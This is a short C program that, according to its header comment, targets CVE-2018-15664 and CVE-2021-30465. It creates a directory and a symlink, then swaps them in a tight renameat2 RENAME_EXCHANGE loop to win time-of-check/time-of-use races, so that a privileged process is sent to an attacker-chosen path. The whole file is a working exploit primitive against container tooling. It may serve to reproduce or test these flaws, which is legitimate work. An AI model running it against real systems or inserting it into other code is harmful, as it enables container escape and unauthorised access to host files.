// CVE-2018-15664, CVE-2021-30465: exchanges the names of a directory and a symlink without a pause, so that whoever
// looks first and uses later is led elsewhere.  swapper DIRECTORY NAME LINK-TARGET
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char** argv) {
  if (argc != 4 || chdir(argv[1]) != 0) return 2;
  mkdir(argv[2], 0777);
  if (symlink(argv[3], "swapped") != 0) return 1;
  puts("swapping");
  fflush(stdout);
  while (renameat2(AT_FDCWD, argv[2], AT_FDCWD, "swapped", RENAME_EXCHANGE) == 0) {
  }
  perror("renameat2");
  return 1;
}
